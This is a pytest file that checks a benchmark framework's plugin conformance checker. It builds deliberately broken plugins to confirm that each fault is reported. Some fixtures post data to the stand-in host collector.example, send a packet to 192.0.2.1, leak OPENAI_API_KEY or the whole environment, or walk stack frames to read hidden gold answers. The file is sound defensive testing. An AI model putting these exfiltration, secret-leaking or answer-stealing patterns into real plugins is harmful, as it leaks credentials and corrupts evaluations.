"""Every promise of a kind, broken by a plugin that is otherwise sound, is caught, by the check that is about it."""

from __future__ import annotations

import asyncio
import os
import random
import socket
import sys
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from pydantic import Field, SecretStr

from rlpa_bench.errors import JudgeError, ProviderError
from rlpa_bench.interfaces import (
    Baseline,
    Column,
    Generation,
    Guide,
    Judge,
    JudgeInfo,
    Metric,
    Model,
    Part,
    Record,
    Sampling,
    Simulator,
    Suite,
    Value,
)
from rlpa_bench.options import ModelOptions, Options
from rlpa_bench.testing import ConformanceError, check_judge, examine, watch
from rlpa_bench.types import (
    Case,
    DialogueSubject,
    Gold,
    Item,
    Message,
    Output,
    PairSubject,
    Session,
    State,
    TurnSubject,
    Utterance,
    Verdict,
    View,
)


class ModelName(Options):
    model: str = Field("script", description="Model to ask.")


class SoundSuite(Suite):
    """Four cases."""

    name = "sound"
    Options = Options
    protocol = "sound/1"

    def cases(self) -> Sequence[Case]:
        gold = Gold((Item("Age", "34", id="age/34"),))
        return [Case(f"case-{i}", gold, f"profile-{i}", (Session(3, "Hello"),)) for i in range(4)]


class SoundSimulator(Simulator):
    """States its facts in turn, in words that a model has joined."""

    name = "sound"
    Options = ModelName

    async def open(self, state: State) -> Utterance:
        return Utterance("Hello.", state={"said": []})

    async def reply(self, state: State) -> Utterance:
        assert state.case.gold is not None
        facts = state.case.gold.at(state.session, state.turn).facts
        fact = self.context.random("fact", state.key).choice(facts)
        text, call = await self.ask(state)
        said = [*((state.turns[-1].user.state or {}).get("said", [])), fact.key]
        return Utterance(f"{fact.say[0]} {text}", (fact.key,), state={"said": said}, calls=(call,))

    async def ask(self, state: State) -> Any:
        model = self.context.model(self.options.model, role="simulator")
        return await model.generate([Message("user", state.turns[-1].response)], key=state.key)


class SoundJudge(Judge):
    """Reads a number from 0 to 5 that a model says."""

    name = "sound"
    Options = ModelName
    parts: Any = {"fit": Part(0, 5), "asks": Part(binary=True)}
    deterministic = True

    async def judge(self, subject: TurnSubject) -> Mapping[str, Verdict]:
        text = await self.ask(subject)
        try:
            value = min(5.0, float(text.split()[-1]))
        except (ValueError, IndexError):
            raise JudgeError("no number to be read", reason="unparseable") from None
        return {"fit": Verdict(value, raw=text), "asks": Verdict(float("?" in subject.reply))}

    async def ask(self, subject: TurnSubject) -> str:
        model = self.context.model(self.options.model, role="judge")
        return (await model.generate([Message("user", subject.reply)], key=subject.key))[0]


class SoundBaseline(Baseline):
    """The model, and how many turns it has seen."""

    name = "sound"
    Options = Options

    async def respond(self, view: View) -> Output:
        text, call = await self.model.generate(view.messages, key=view.key)
        return Output(text, memory=(view.memory or 0) + 1, calls=(call,))


class SoundModel(Model):
    """Says hello as often as it may."""

    name = "sound"
    Options = ModelOptions

    async def generate(self, messages: Sequence[Message], sampling: Sampling, guide: Guide | None) -> Generation:
        words = ["hello"] * min(5, sampling.max_tokens)
        return Generation(" ".join(words), "length" if len(words) < 5 else "stop", 3, len(words))


class SoundMetric(Metric):
    """Alignment x10, and turns played."""

    name = "sound"
    Options = Options

    def columns(self, judges: Mapping[str, JudgeInfo]) -> Sequence[Column]:
        gate = [Column("gate x10", low=0, high=10)] if "reference" in judges else []
        return [*gate, Column("turns", low=0)]

    def measure(self, record: Record, judges: Mapping[str, JudgeInfo]) -> Iterator[Value]:
        yield Value("turns", None, float(len(record.dialogue.turns)))
        for turn, value, reason, defined in record.verdicts("reference", "gate"):
            yield Value("gate x10", turn, None if value is None else value * 10, reason, defined)


SOUND: dict[str, type[Any]] = {
    "suite": SoundSuite, "simulator": SoundSimulator, "judge": SoundJudge, "baseline": SoundBaseline,
    "model": SoundModel, "metric": SoundMetric,
}  # fmt: skip
SAYS = {"judge": "I give it a 4"}


def failures(kind: str, component: type[Any], **settings: Any) -> dict[str, str]:
    report = examine(kind, component, **{"says": SAYS.get(kind), **settings})
    return {result.check: result.message for result in report.failed}


@pytest.mark.parametrize("kind", SOUND)
def test_sound_plugins_pass(kind: str) -> None:
    assert failures(kind, SOUND[kind]) == {}


Bad = tuple[str, str, type[Any], str]
BAD: list[Bad] = []


def bad(kind: str, check: str, said: str) -> Callable[[type[Any]], type[Any]]:
    """A plugin whose fault the named check has to report, in these words."""

    def note(component: type[Any]) -> type[Any]:
        component.__doc__ = component.__doc__ or "Breaks a promise."
        BAD.append((kind, check, component, said))
        return component

    return note


@bad("simulator", "deterministic", "draw from context.random")
class Moody(SoundSimulator):
    async def reply(self, state: State) -> Utterance:
        said = await super().reply(state)
        return replace(said, text=f"{said.text} {os.urandom(4).hex()}")


@bad("simulator", "deterministic", "keep nothing between calls")
class Forgetful(SoundSimulator):
    count = 0

    async def reply(self, state: State) -> Utterance:
        self.count += 1
        said = await super().reply(state)
        return replace(said, text=f"{said.text} That is {self.count} things I told you.")


@bad("judge", "deterministic", "the second time")
class Fickle(SoundJudge):
    async def judge(self, subject: TurnSubject) -> Mapping[str, Verdict]:
        return {**await super().judge(subject), "fit": Verdict(float(os.urandom(1)[0] % 6), raw=os.urandom(4).hex())}


@bad("suite", "deterministic", "cases()")
class Shuffling(SoundSuite):
    def cases(self) -> Sequence[Case]:
        return [replace(case, id=f"{case.id}-{time.perf_counter_ns()}") for case in super().cases()]

    def sample(self, limit: int) -> Sequence[Case]:
        return SoundSuite.cases(self)[:limit]


@bad("metric", "deterministic", "values of")
class Drifting(SoundMetric):
    seen = 0

    def measure(self, record: Record, judges: Mapping[str, JudgeInfo]) -> Iterator[Value]:
        type(self).seen += 1
        yield Value("turns", None, float(self.seen))


@bad("simulator", "true ledger", "discloses 'age/99', which the gold does not hold then")
class Liar(SoundSimulator):
    async def reply(self, state: State) -> Utterance:
        return replace(await super().reply(state), disclosed=("age/99",))


@bad("simulator", "true ledger", "its words let one recognise 0")
class Boaster(SoundSimulator):
    async def reply(self, state: State) -> Utterance:
        return replace(await super().reply(state), text="Never mind.")


@bad("simulator", "no fabrication", "speaks of 'occupation/plumber', which the persona is not")
class Impostor(SoundSimulator):
    async def reply(self, state: State) -> Utterance:
        said = await super().reply(state)
        return replace(said, text=f"{said.text} I work as a plumber.")


@bad("simulator", "fails honestly", "answers although its model failed")
class Canned(SoundSimulator):
    async def ask(self, state: State) -> Any:
        try:
            return await super().ask(state)
        except ProviderError:
            from rlpa_bench.types import Call

            return "Hm.", Call("simulator", "script", "stop")


@bad("judge", "no default score", "is 0 although its model fails")
class Zeroing(SoundJudge):
    async def ask(self, subject: TurnSubject) -> str:
        try:
            return await super().ask(subject)
        except ProviderError:
            return "0"


@bad("judge", "no default score", "although its model says ''")
class Middling(SoundJudge):
    async def judge(self, subject: TurnSubject) -> Mapping[str, Verdict]:
        try:
            return await super().judge(subject)
        except JudgeError:
            return {"fit": Verdict(2.5), "asks": Verdict(0.0)}


@bad("baseline", "fails honestly", "answers although its model failed")
class Excuses(SoundBaseline):
    async def respond(self, view: View) -> Output:
        try:
            return await super().respond(view)
        except ProviderError:
            return Output("Sorry, I cannot answer just now.")


@bad("baseline", "fails honestly", "let the ProviderError through")
class Disguising(SoundBaseline):
    async def respond(self, view: View) -> Output:
        try:
            return await super().respond(view)
        except ProviderError as error:
            raise RuntimeError("something went wrong") from error


@bad("metric", "missing is missing", "although its verdict failed")
class Punishing(SoundMetric):
    def measure(self, record: Record, judges: Mapping[str, JudgeInfo]) -> Iterator[Value]:
        for value in super().measure(record, judges):
            failed = value.value is None and value.reason.startswith("error:")
            yield value._replace(value=0.0) if failed else value


@bad("metric", "missing is missing", "which was never played")
class Filling(SoundMetric):
    def measure(self, record: Record, judges: Mapping[str, JudgeInfo]) -> Iterator[Value]:
        for value in super().measure(record, judges):
            unplayed = value.turn is not None and value.turn > len(record.dialogue.turns)
            yield value._replace(value=0.0) if unplayed else value


@bad("simulator", "unmutated", "copy first")
class Scribbling(SoundSimulator):
    async def reply(self, state: State) -> Utterance:
        said = await super().reply(state)
        if state.turns[-1].user.state:
            state.turns[-1].user.state["said"].append("once more")
        return said


@bad("judge", "unmutated", "changes what it was given")
class Tampering(SoundJudge):
    async def judge(self, subject: TurnSubject) -> Mapping[str, Verdict]:
        verdicts = await super().judge(subject)
        object.__setattr__(subject, "reply", subject.reply + "!")
        return verdicts


@bad("baseline", "unmutated", "changes what it was given")
class Rewriting(SoundBaseline):
    async def respond(self, view: View) -> Output:
        output = await super().respond(view)
        object.__setattr__(view, "user", "I agree.")
        return output


@bad("metric", "unmutated", "changes what it was given")
class Dropping(SoundMetric):
    def measure(self, record: Record, judges: Mapping[str, JudgeInfo]) -> Iterator[Value]:
        yield from list(super().measure(record, judges))
        record.scores.pop(("reference", "style"))  # type: ignore[attr-defined]


@bad("baseline", "grants", "writes 'zorblatt-17', which only the gold holds")
class Thief(SoundBaseline):
    async def respond(self, view: View) -> Output:
        output = await super().respond(view)
        frame, found = sys._getframe(), ""
        while frame is not None and not found:
            state = frame.f_locals.get("state")
            found = repr(state.case.gold) if isinstance(state, State) else ""
            frame = frame.f_back  # type: ignore[assignment]
        if not found:
            found = " ".join(repr(task.get_coro().cr_frame.f_locals) for task in asyncio.all_tasks())  # type: ignore[union-attr]
        return replace(output, raw=f"{output.raw} {found}")


@bad("baseline", "grants", "walks the interpreter's memory (gc.get_objects)")
class Digger(SoundBaseline):
    async def respond(self, view: View) -> Output:
        import gc

        gc.get_objects(generation=0)
        return await super().respond(view)


@bad("baseline", "grants", "answers otherwise when it is shown disclosed and gold; declare grants")
class Opportunist(SoundBaseline):
    async def respond(self, view: View) -> Output:
        output = await super().respond(view)
        return replace(output, raw=output.raw + (view.gold.items[0].value if view.gold else ""))


@bad("baseline", "grants", "grants names 'everything'; there are gold and disclosed")
class Greedy(SoundBaseline):
    grants = frozenset({"everything"})


@bad("simulator", "unblocking", "time.sleep(3600) on the event loop")
class Sleeper(SoundSimulator):
    async def reply(self, state: State) -> Utterance:
        time.sleep(3600)  # noqa: ASYNC251 - the fault that is to be caught
        return await super().reply(state)


@bad("judge", "unblocking", "without an await")
class Brooding(SoundJudge):
    async def judge(self, subject: TurnSubject) -> Mapping[str, Verdict]:
        if subject.key == "nurse/0/2":
            end = time.thread_time() + 0.25
            while time.thread_time() < end:
                pass
        return await super().judge(subject)


@bad("model", "unblocking", "time.sleep(3600) on the event loop")
class Dozing(SoundModel):
    async def generate(self, messages: Sequence[Message], sampling: Sampling, guide: Guide | None) -> Generation:
        time.sleep(3600)  # noqa: ASYNC251 - the fault that is to be caught
        return await super().generate(messages, sampling, guide)


@bad("judge", "bounded", "asks a failing model more than 20 times")
class Insistent(SoundJudge):
    async def ask(self, subject: TurnSubject) -> str:
        while True:
            try:
                return await super().ask(subject)
            except ProviderError:
                await asyncio.sleep(60)


@bad("baseline", "bounded", "the context retries already")
class Obstinate(SoundBaseline):
    async def respond(self, view: View) -> Output:
        for _ in range(1000):
            try:
                return await super().respond(view)
            except Exception:
                continue
        raise ProviderError("gave up after 1000 tries")


@bad("judge", "offline", "contacts collector.example")
class Spying(SoundJudge):
    async def judge(self, subject: TurnSubject) -> Mapping[str, Verdict]:
        from contextlib import suppress
        from urllib.request import urlopen

        with suppress(OSError):
            await asyncio.to_thread(urlopen, "http://collector.example/log", b"reply", 1)
        return await super().judge(subject)


@bad("suite", "offline", "contacts 127.0.0.1")
class Fetching(SoundSuite):
    def cases(self) -> Sequence[Case]:
        from contextlib import suppress

        with suppress(OSError), socket.socket() as line:
            line.connect(("127.0.0.1", 9))
        return super().cases()


class Reporting(SoundMetric):
    """Sends a packet."""

    def __init__(self, *given: Any) -> None:
        super().__init__(*given)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
            line.sendto(b"hello", ("192.0.2.1", 514))


@bad("baseline", "secretive", "writes a key of the environment")
class Leaking(SoundBaseline):
    async def respond(self, view: View) -> Output:
        output = await super().respond(view)
        return replace(output, memory=[os.environ["OPENAI_API_KEY"]])


@bad("judge", "secretive", "prints a key of the environment")
class Chatting(SoundJudge):
    async def judge(self, subject: TurnSubject) -> Mapping[str, Verdict]:
        print(dict(os.environ))
        return await super().judge(subject)


@bad("model", "secretive", "describe() holds a key")
class Publishing(SoundModel):
    def describe(self) -> Mapping[str, Any]:
        return {"key": os.environ.get("OPENAI_API_KEY")}


@bad("simulator", "secretive", "option 'api_key' would be written to run.json; make it a pydantic SecretStr")
class Configured(SoundSimulator):
    class Options(ModelName):
        api_key: str = Field("", description="Key of the endpoint.")
        other_key: SecretStr = Field(SecretStr(""), description="Another.")


@bad("judge", "scales", "fit is 40.0, outside [0, 5]")
class Percent(SoundJudge):
    async def judge(self, subject: TurnSubject) -> Mapping[str, Verdict]:
        verdicts = await super().judge(subject)
        return {**verdicts, "fit": Verdict(10 * (verdicts["fit"].value or 0))}


@bad("judge", "scales", "asks is 0.5, but the part is declared binary")
class Undecided(SoundJudge):
    async def judge(self, subject: TurnSubject) -> Mapping[str, Verdict]:
        return {**await super().judge(subject), "asks": Verdict(0.5)}


@bad("judge", "scales", "lacks part 'asks'")
class Partial(SoundJudge):
    async def judge(self, subject: TurnSubject) -> Mapping[str, Verdict]:
        return {"fit": (await super().judge(subject))["fit"]}


@bad("judge", "scales", "names 'charm', which is no declared part")
class Generous(SoundJudge):
    async def judge(self, subject: TurnSubject) -> Mapping[str, Verdict]:
        return {**await super().judge(subject), "charm": Verdict(1.0)}


@bad("judge", "parts", "part 'fit' has the scale [5, 0]")
class Inverted(SoundJudge):
    parts: Any = {"fit": Part(5, 0), "asks": Part()}


@bad("judge", "parts", "'charm' is rewarded but is no part")
class Rewarding(SoundJudge):
    reward = ("charm",)


@bad("metric", "scales", "gate x10 is 100.0, outside [0, 10]")
class Tenfold(SoundMetric):
    def measure(self, record: Record, judges: Mapping[str, JudgeInfo]) -> Iterator[Value]:
        for value in super().measure(record, judges):
            wrong = value.column == "gate x10" and value.value
            yield value._replace(value=100.0) if wrong else value


@bad("metric", "scales", "'charm' is no value of a declared column")
class Undeclared(SoundMetric):
    def measure(self, record: Record, judges: Mapping[str, JudgeInfo]) -> Iterator[Value]:
        yield Value("charm", None, 1.0)


@bad("metric", "columns", "two columns are called 'turns'")
class Doubled(SoundMetric):
    def columns(self, judges: Mapping[str, JudgeInfo]) -> Sequence[Column]:
        return [*super().columns(judges), Column("turns")]


@bad("judge", "harmless", "draws from or reseeds the global generator")
class Reseeding(SoundJudge):
    async def judge(self, subject: TurnSubject) -> Mapping[str, Verdict]:
        random.seed(0)
        return await super().judge(subject)


@bad("baseline", "harmless", "changes the environment variable RLPA_BENCH_CACHE_DIR")
class Redirecting(SoundBaseline):
    async def respond(self, view: View) -> Output:
        os.environ["RLPA_BENCH_CACHE_DIR"] = "elsewhere"
        return await super().respond(view)


@bad("simulator", "harmless", "changes the working directory")
class Wandering(SoundSimulator):
    async def reply(self, state: State) -> Utterance:
        os.chdir("/")
        return await super().reply(state)


@bad("suite", "well formed", "case id 'same' occurs twice")
class Twins(SoundSuite):
    def cases(self) -> Sequence[Case]:
        return [replace(case, id="same") for case in super().cases()]

    def sample(self, limit: int) -> Sequence[Case]:
        return self.cases()[:limit]


@bad("suite", "well formed", "yields no cases")
class Empty(SoundSuite):
    def cases(self) -> Sequence[Case]:
        return []


@bad("suite", "samples", "in another order")
class Jumbled(SoundSuite):
    def sample(self, limit: int) -> Sequence[Case]:
        return list(reversed(self.cases()))[:limit]


@bad("suite", "protocol", "protocol is 'sound'; write NAME/VERSION")
class Unversioned(SoundSuite):
    protocol = "sound"


@bad("simulator", "utterances", "returns str, not an Utterance")
class Terse(SoundSimulator):
    async def open(self, state: State) -> Utterance:
        return "Hello."  # type: ignore[return-value]


@bad("simulator", "utterances", "it says nothing")
class Mute(SoundSimulator):
    async def open(self, state: State) -> Utterance:
        return Utterance("  ", state={"said": []})


@bad("baseline", "outputs", "is a str, not an Output")
class Stringy(SoundBaseline):
    async def respond(self, view: View) -> Output:
        return (await super().respond(view)).raw  # type: ignore[return-value]


@bad("baseline", "outputs", "its memory is no JSON")
class Hoarding(SoundBaseline):
    async def respond(self, view: View) -> Output:
        return replace(await super().respond(view), memory={1, 2})


@bad("baseline", "model use", "asks its model 1 times and books 0 calls")
class Thrifty(SoundBaseline):
    async def respond(self, view: View) -> Output:
        return replace(await super().respond(view), calls=())


@bad("baseline", "model use", "never asks its model; set needs_model = False")
class Idle(SoundBaseline):
    async def respond(self, view: View) -> Output:
        return Output("<profile>\n</profile>\n\n<response>\nHm.\n</response>")


@bad("model", "sampling", "wrote 5 tokens where max_tokens was 1")
class Endless(SoundModel):
    async def generate(self, messages: Sequence[Message], sampling: Sampling, guide: Guide | None) -> Generation:
        return await super().generate(messages, replace(sampling, max_tokens=9), guide)


@bad("model", "sampling", "goes on behind the stop string")
class Unstoppable(SoundModel):
    async def generate(self, messages: Sequence[Message], sampling: Sampling, guide: Guide | None) -> Generation:
        made = await super().generate(messages, sampling, guide)
        return replace(made, text=f"{made.text}</response> and more")


@bad("model", "guides", "wrote what breaks it: no blocks")
class Unguided(SoundModel):
    guides = frozenset({"contract"})


@bad("model", "guides", "wrote no JSON")
class Unschemed(SoundModel):
    guides = frozenset({"json"})


@bad("model", "generations", "finished with 'eos'")
class Odd(SoundModel):
    async def generate(self, messages: Sequence[Message], sampling: Sampling, guide: Guide | None) -> Generation:
        return replace(await super().generate(messages, sampling, guide), finish="eos")


@bad("model", "unreachable", "an answer without a connection; raise ProviderError")
class Pretending(SoundModel):
    async def generate(self, messages: Sequence[Message], sampling: Sampling, guide: Guide | None) -> Generation:
        try:
            await asyncio.open_connection("model.example", 443)
        except OSError:
            return Generation("")
        raise AssertionError("there is no network here")


@bad("model", "options", "does not extend rlpa_bench.options.ModelOptions")
class Bare(SoundModel):
    class Options(ModelName):
        def sampling(self) -> Sampling:
            return Sampling()


@bad("judge", "builds", "describe() is no JSON")
class Indescribable(SoundJudge):
    def describe(self) -> Mapping[str, Any]:
        return {"judge": self}


@bad("judge", "builds", "it cannot be built: OSError: no licence")
class Unbuildable(SoundJudge):
    def __init__(self, *given: Any) -> None:
        raise OSError("no licence")


@bad("judge", "declared", "option 'size' has no description")
class Silent(SoundJudge):
    class Options(ModelName):
        size: int = 3


@bad("judge", "answers", "verdict on no gold/0/1: IndexError")
class Presuming(SoundJudge):
    async def judge(self, subject: TurnSubject) -> Mapping[str, Verdict]:
        _ = subject.gold.items[0]
        return await super().judge(subject)


@bad("baseline", "answers", "answers nothing: ProviderError: not today")
class Refusing(SoundBaseline):
    async def respond(self, view: View) -> Output:
        raise ProviderError("not today")


@pytest.mark.parametrize(
    ("kind", "check", "component", "said"), BAD, ids=lambda value: getattr(value, "__name__", None)
)
def test_a_broken_promise_is_caught(
    kind: str, check: str, component: type[Any], said: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(watch, "CPU_LIMIT", 0.2)
    found = failures(kind, component)
    assert said in found.get(check, ""), found
    assert component.__doc__


def test_a_metric_that_reports_home_while_it_is_built() -> None:
    found = failures("metric", Reporting)
    assert set(found) == {"builds"} and "192.0.2.1 was to be contacted" in found["builds"]


def test_the_ten_faults_that_matter_most_are_told_apart() -> None:
    """No other check fails for a plugin with one of these faults, so that the report says what is wrong."""
    alone = {Moody: "deterministic", Impostor: "no fabrication", Zeroing: "no default score", Opportunist: "grants",
             Sleeper: "unblocking", Insistent: "bounded", Spying: "offline", Chatting: "secretive", Percent: "scales",
             Tampering: "unmutated"}  # fmt: skip
    kinds = {component: kind for kind, _, component, _ in BAD}
    for component, check in alone.items():
        assert set(failures(kinds[component], component)) == {check}, component.__name__


class Whole(SoundJudge):
    """Judges whole dialogues by their length."""

    target = "dialogue"
    parts: Any = {"turns": Part(0, 100)}

    async def judge(self, subject: DialogueSubject) -> Mapping[str, Verdict]:  # type: ignore[override]
        return {"turns": Verdict(float(len(subject.turns)))}


class Pairs(SoundJudge):
    """Judges pairs by the length of their replies."""

    target = "pair"
    parts: Any = {"first": Part(binary=True)}

    async def judge(self, subject: PairSubject) -> Mapping[str, Verdict]:  # type: ignore[override]
        return {"first": Verdict(float(len(subject.first.reply) > len(subject.second.reply)))}


@pytest.mark.parametrize("judge", [Whole, Pairs])
def test_judges_of_every_target_are_exercised(judge: type[Any]) -> None:
    assert failures("judge", judge) == {}


def test_check_functions_raise_with_the_whole_report() -> None:
    with pytest.raises(
        ConformanceError, match=r"judge 'sound' does not conform:\n  scales: .*outside \[0, 5\]"
    ) as error:
        check_judge(Percent, says="a 4")
    assert len(error.value.report.results) == 13 and len(error.value.report.failed) == 1
    assert check_judge(SoundJudge, says="a 4").failed == []


def test_a_check_can_be_skipped_with_a_reason_that_is_shown() -> None:
    report = examine("judge", Percent, says="a 4", skip={"scales": "told in percent"})
    assert not report.failed and "-      scales: told in percent" in str(report)


def test_a_promise_that_is_not_made_is_not_checked() -> None:
    class Honest(Fickle):
        """Varies, and says so."""

        deterministic = False

    report = examine("judge", Honest, says="a 4")
    assert not report.failed and "-      deterministic: it does not promise to be" in str(report)


def test_hosts_that_are_allowed_may_be_contacted() -> None:
    assert "127.0.0.1" in failures("suite", Fetching)["offline"]
    assert failures("suite", Fetching, hosts=("127.0.0.1",)) == {}


def test_the_examination_leaves_everything_as_it_was() -> None:
    random.seed(5)
    expected = random.Random(5).random()
    before = dict(os.environ), Path.cwd(), time.sleep, asyncio.sleep
    for component in (Reseeding, Redirecting, Wandering, Sleeper):
        kinds = {component: kind for kind, _, component, _ in BAD}
        failures(kinds[component], component)
    assert (dict(os.environ), Path.cwd(), time.sleep, asyncio.sleep) == before
    assert random.random() == expected
